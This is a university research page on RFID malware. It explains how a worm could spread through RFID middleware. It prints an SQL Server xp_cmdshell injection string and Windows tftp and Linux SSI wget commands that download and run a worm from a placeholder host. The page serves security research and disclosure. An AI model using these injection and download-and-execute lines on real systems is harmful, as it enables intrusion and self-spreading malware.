Go to the homepage of the Vrije Universiteit. Go to the homepage of the faculty of sciences.

How to Write an RFID Worm

A worm is a program that self-propagates across a network, exploiting security flaws in widely-used services. A worm is distinguishable from a virus in that a worm does not require any user activity to propagate. Worms usually have a payload, which performs activities ranging from deleting files, to sending information via email,to installing software patches. One of the most common payloads for a worm is to install a backdoor in the infected computer, which grants hackers easy return access to that computer system in the future.

An RFID worm propagates by exploiting security flaws in online RFID services. RFID worms do not necessarily require users to do anything (like scanning RFID tags) to propagate, although they will also happily spread via RFID tags, if given the opportunity.


RFID tags are generally too small to contain an entire worm. Therefore the tag will contain only enough of the worm to enable it to download the rest from a computer connected to theinternet.

The RFID tag can either include binary code to download and execute the worm, or shell commands which do the same. Shell commands generally require less space than binary code and they are also more portable. Examples of what can be done using shell commands can be found here. However, some weaknesses may only allow binary code to be executed.

Worms may target any part of the RFID middleware to propagate. Some database systems provide SQL commands that execute shell commands on the database server. These commands can be abused to download and execute the worm. An example for SQL Server is shown in Example  1.
Apples'; EXEC Master..xp_cmdshell 'shell commands';--
Example  1 - Executing shell commands using SQL Server
The first part of the exploit (before the semicolon) performs SQL injection. It terminates the current query and starts a new query. The second part of the query uses SQL Server's xp_cmdshell stored procedure to execute shell commands. The final part of the query starts a SQL comment, which makes sure any remaining SQL inserted by the middleware is ignored, to prevent errors being logged.

An example of the shell commands that a worm would execute is shown in Example  2.

cd \Windows\Temp & tftp -i <ip> GET worm.exe & worm.exe
Example  2 - Downloading and executing a worm on Windows
These shell commands download the worm into the windows temporary directory using the tftp utility, which comes standard with windows. After the worm has been downloaded, it isexecuted.

Web-based components may also be susceptible. Server-side includes may allow shell commands to be executed, which can be abused to download and execute the worm in the same way.
When using SSI on Linux, the code to download and execute the worm might look like this:

<!--#exec cmd="wget http://ip/worm -O /tmp/worm; chmod +x /tmp/worm; /tmp/worm "-->
Example  3 - Downloading and executing a worm on Linux using SSIThese shell commands perform the same function as the previous windows example, in this case using the wget utility. Since Linux requires programs to have an executable flag set, an extra statement is included to enable this flag.

Any part of the middleware that is written in C or C++ may be susceptible to buffer overflows, which can be used to inject binary code that handles propagation. We have not developed a worm using buffer overflows, but the buffer overflow example that executes shell commands could be used to create a worm, by having it execute one of the previous shell commands.

Previous How to Write an RFID Virus
Up RFID Viruses and Worms
How to Defend against RFID Malware Next

Last modified: Thursday, 02 March 2006 21:27, CET
If you spota mistake, please e-mail the maintainer of this page.
Your browser does not fully support CSS. This may result in visual artifacts.